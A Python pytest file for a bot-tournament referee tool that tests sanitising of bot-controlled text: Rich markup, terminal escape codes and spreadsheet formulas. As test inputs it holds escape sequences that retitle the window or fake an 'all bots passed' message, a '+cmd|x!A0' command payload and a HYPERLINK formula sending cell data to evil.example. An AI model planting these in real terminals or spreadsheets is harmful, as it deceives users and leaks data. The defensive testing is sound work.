"""Text a bot controls (hello names, fault details, offending lines) never breaks or hijacks the terminal output.

Rich markup in it stays text (it used to crash ``referee run`` after the games, losing the standings files), and
terminal escape codes in it are shown as ``\\x1b`` escapes instead of reaching the terminal.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from rich.console import Console

from referee.runner.safe_text import literal, visible
from referee.tournament import LiveProgress, Tally

BOTS = Path(__file__).resolve().parents[1] / "bots"
HONEST = str(BOTS / "honest.py")
ESC = "\x1b"


def _referee(*args: str, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "referee", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, **(env or {})},
    )


def _run(bot: str, out: Path, *extra: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return _referee(
        "run", str(BOTS / f"{bot}.py"), HONEST, "-n", "1", "--move-time", "1", "-j", "1", "--sandbox", "none",
        "--seed", "5", "-o", str(out), *extra, cwd=out.parent, env=env,
    )  # fmt: skip


def _clean(result: subprocess.CompletedProcess[str]) -> None:
    """No traceback, and no escape byte anywhere: neither rich (writing to a pipe) nor a bot put one there."""
    assert "Traceback" not in result.stderr and "Error" not in result.stderr, result.stderr
    assert ESC not in result.stdout and ESC not in result.stderr


# --- the sanitiser itself --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("greedy", "greedy"),
        ("é 名 🂡 [/] a\\b", "é 名 🂡 [/] a\\b"),  # printable text, markup and backslashes stay as they are
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),  # OSC: set the window title
        ("one\ntwo\r\tthree", "one\\ntwo\\r\\tthree"),
        ("\x00\x7f\x9b", "\\x00\\x7f\\x9b"),  # NUL, DEL and a C1 control (CSI)
        ("a\u202eb\u2028c", "a\\u202eb\\u2028c"),  # a bidi override and a line separator
        ("x\ud800y", "x\\ud800y"),  # a lone surrogate (JSON allows it; no terminal encoding does)
    ],
)
def test_visible_escapes_exactly_the_unprintable_characters(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(shown) == shown  # already visible text is left alone
    assert literal(text).plain == shown


def test_literal_text_is_not_markup() -> None:
    console = Console(file=io.StringIO(), width=80)
    console.print(literal("[/][bold]x[/bold]", "yellow"))
    assert console.file.getvalue() == "[/][bold]x[/bold]\n"  # type: ignore[attr-defined]


# --- referee run and referee standings ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("bot", "shown", "in_table"),
    [
        pytest.param("markup_reply", 'unknown reply type "[/oops]"', False, id="markup-in-a-fault-detail"),
        pytest.param("markup_name", "│ [/] ", True, id="markup-as-hello-name"),
        pytest.param("escape_name", "│ evil\\x1b[31mRED\\x1b]0;owned\\x07", True, id="escape-codes-in-hello-name"),
    ],
)
def test_run_prints_bot_text_literally_and_writes_the_standings(
    bot: str, shown: str, in_table: bool, tmp_path: Path
) -> None:
    """The fault summary (after the table) and the standings table (run, standings, a resumed run) show it."""
    out = tmp_path / "t"
    result = _run(bot, out)
    assert result.returncode == 0, result.stderr
    _clean(result)
    assert shown in result.stdout
    for name in ("standings.csv", "standings.json", "report.html"):
        assert (out / name).is_file(), name
    standings = json.loads((out / "standings.json").read_text())
    assert {e["name"] for e in standings["entrants"]} == {bot, "honest"}

    again = _referee("standings", str(out), cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    _clean(again)
    assert (shown in again.stdout) is in_table

    resumed = _run(bot, out)  # every game is played: prints the standings again
    assert resumed.returncode == 0, resumed.stderr
    _clean(resumed)
    assert shown in resumed.stdout


def test_run_on_a_terminal_shows_bot_names_literally(tmp_path: Path) -> None:
    """On a terminal rich writes its own escape codes, but none of the bot's, and its markup stays text."""
    out = tmp_path / "t"
    result = _run("escape_name", out, env={"TTY_COMPATIBLE": "1", "COLUMNS": "160"})
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert "\x1b]0;owned" not in result.stdout and "\x1b[31mRED" not in result.stdout
    assert "evil\\x1b[31mRED" in result.stdout
    assert (out / "standings.json").is_file()


def test_standings_csv_keeps_names_that_look_like_formulas_as_text(tmp_path: Path) -> None:
    """standings.csv is opened in spreadsheets: a hello name or a manifest name that starts a formula (``=``, ``+``,
    ``-``, ``@``) gets a leading ``'`` there, so it shows as text and runs nothing; standings.json keeps it as is."""
    formula = BOTS / "formula_name.py"
    (tmp_path / "bots.toml").write_text(
        f'[[bot]]\nname = "+cmd|x!A0"\ncommand = "{HONEST}"\ncwd = "."\n'
        f'[[bot]]\nname = "formula"\ncommand = "{formula}"\ncwd = "."\n'
    )
    out = tmp_path / "t"
    result = _referee(
        "run", "--manifest", str(tmp_path / "bots.toml"), "-n", "1", "-j", "1", "--sandbox", "none", "--seed", "5",
        "-o", str(out), cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    _clean(result)
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO((out / "standings.csv").read_text()))}
    assert set(rows) == {"'+cmd|x!A0", "formula"}
    assert rows["formula"]["declared_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows["'+cmd|x!A0"]["declared_name"] == "honest"
    standings = json.loads((out / "standings.json").read_text())
    assert {e["name"] for e in standings["entrants"]} == {"+cmd|x!A0", "formula"}


def test_the_live_standings_show_declared_names_literally() -> None:
    """The live view redraws the standings during the games, declared names included."""
    console = Console(file=io.StringIO(), force_terminal=True, width=160)
    tally = Tally(["[/]", "honest"], {"[/]": "[/oops]\x1b]0;owned\x07", "honest": "honest"})
    progress = LiveProgress(console, refresh=0)
    progress.start(2, 0, tally)
    progress.game_done(None, tally)  # type: ignore[arg-type]  # the view does not look at the game
    progress.stop()
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[/oops]\\x1b]0;owned\\x07" in shown and "\x1b]0;owned" not in shown


# --- referee play, replay and check ------------------------------------------------------------------------------

LINE_SHOWN = "\\x1b[2J\\x1b[H\\x1b[32mall bots passed\\x1b[0m\\x1b]0;owned\\x07"


def test_play_and_replay_show_an_offending_line_with_escapes(tmp_path: Path) -> None:
    log = tmp_path / "g.jsonl"
    played = _referee(
        "play", str(BOTS / "escape_line.py"), HONEST, "--seed", "5", "--move-time", "1", "--sandbox", "none",
        "--log", str(log), cwd=tmp_path,
    )  # fmt: skip
    assert played.returncode == 0, played.stderr
    _clean(played)
    assert "invalid_json" in played.stdout and f"line: {LINE_SHOWN}" in played.stdout
    assert "forfeit" in played.stdout

    replayed = _referee("replay", str(log), cwd=tmp_path)
    assert replayed.returncode == 0, replayed.stderr
    _clean(replayed)
    assert f"line: {LINE_SHOWN}" in replayed.stdout


def test_check_shows_what_it_received_with_escapes(tmp_path: Path) -> None:
    result = _referee(
        "check", str(BOTS / "escape_line.py"), "--games", "1", "--sandbox", "none", "--opponent", "random_bot",
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 1, result.stderr  # the bot fails a check
    _clean(result)
    assert f"received: {LINE_SHOWN}" in result.stdout


def test_check_progress_shows_the_hello_name_with_escapes(tmp_path: Path) -> None:
    result = _referee(
        "check", str(BOTS / "escape_name.py"), "--games", "1", "--sandbox", "none", "--opponent", "random_bot", "-v",
        cwd=tmp_path,
    )  # fmt: skip
    assert result.returncode == 0, result.stdout
    _clean(result)
    assert "hello from evil\\x1b[31mRED\\x1b]0;owned\\x07\\nsecond line;" in result.stderr
